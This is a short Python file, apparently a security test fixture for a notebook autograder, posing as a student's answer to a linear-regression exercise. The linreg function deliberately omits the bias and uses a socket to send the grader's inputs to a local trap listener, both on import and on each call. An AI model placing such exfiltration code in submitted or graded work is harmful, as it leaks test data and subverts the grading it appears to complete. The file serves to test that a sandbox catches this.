# ruff: noqa
# Attack: open a network connection to send the inputs out (to a listener on this machine)
# Notebook: 01-linear-regression
# Cell: linreg
# Expect: differs from the expected values
import socket


def _send(what):
    try:
        with socket.create_connection(("127.0.0.1", int("@@TRAP_PORT@@")), timeout=2) as connection:
            connection.sendall(what)
    except OSError:
        pass


_send(b"hello from the worker")


def linreg(X, w, b):
    """Wrong (no bias); sends the grader's inputs out when called."""
    _send(repr(X.tolist()).encode())
    return X @ w
